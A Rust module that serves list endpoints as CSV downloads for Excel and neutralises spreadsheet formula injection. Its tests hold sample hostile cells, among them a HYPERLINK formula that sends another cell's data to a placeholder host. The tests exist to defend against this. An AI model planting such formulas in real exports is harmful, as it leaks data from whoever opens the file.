//! CSV export: every list and table endpoint answers `format=csv` with the same rows as a
//! UTF-8 file that starts with a byte-order mark, so Excel shows Chinese correctly.

use axum::http::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::response::{IntoResponse, Response};

/// Whether a `format` parameter asks for CSV (`json`, the default, or `csv`).
pub(crate) fn wanted(format: Option<&str>) -> Result<bool, crate::error::AppError> {
    match format {
        None | Some("json") => Ok(false),
        Some("csv") => Ok(true),
        Some(other) => Err(crate::error::AppError::BadRequest {
            code: "invalid_format",
            message: format!("`format` must be json or csv, not `{other}`"),
        }),
    }
}

/// A row that can be written as CSV.
pub(crate) trait CsvRow {
    /// Column names.
    fn header() -> Vec<&'static str>;
    /// The row's cells, in the header's order.
    fn cells(&self) -> Vec<String>;
}

/// Whether a spreadsheet would read `cell` as a formula (or, after a leading tab or
/// carriage return, might): text a rep typed must never run in the manager's Excel.
fn looks_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(cell)
}

/// `-12`, `+3.50`: a signed number is a number, not a formula, and stays one.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or_default();
    let all_digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && parts.next().is_none_or(all_digits)
}

fn escape(cell: &str) -> String {
    let cell = if looks_like_formula(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    };
    if cell.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.into_owned()
    }
}

/// The rows as a downloadable CSV file named `name`.csv.
pub(crate) fn response<T: CsvRow>(name: &str, rows: &[T]) -> Response {
    let mut body = String::from("\u{feff}");
    body.push_str(&T::header().join(","));
    body.push_str("\r\n");
    for row in rows {
        body.push_str(
            &row.cells()
                .iter()
                .map(|c| escape(c))
                .collect::<Vec<_>>()
                .join(","),
        );
        body.push_str("\r\n");
    }
    (
        [
            (CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                CONTENT_DISPOSITION,
                format!("attachment; filename=\"{name}.csv\""),
            ),
        ],
        body,
    )
        .into_response()
}

/// Money in fen as yuan with two decimals, for spreadsheets.
pub(crate) fn yuan(m: rounds_shared::money::Money) -> String {
    m.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_with_commas_quotes_and_newlines_are_quoted() {
        assert_eq!(escape("plain"), "plain");
        assert_eq!(escape("a,b"), "\"a,b\"");
        assert_eq!(escape("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(escape("两行\n文字"), "\"两行\n文字\"");
    }

    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        let cases = [
            ("=1+1", "'=1+1"),
            ("+86 138", "'+86 138"),
            ("-x", "'-x"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\r=1", "\"'\r=1\""),
            (
                "=HYPERLINK(\"http://x\"&A2,\"点\")",
                "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"点\"\")\"",
            ),
            ("-120.50", "-120.50"),
            ("+3", "+3"),
            ("-", "'-"),
            ("a=b", "a=b"),
        ];
        for (cell, expected) in cases {
            assert_eq!(escape(cell), expected, "{cell:?}");
        }
    }
}
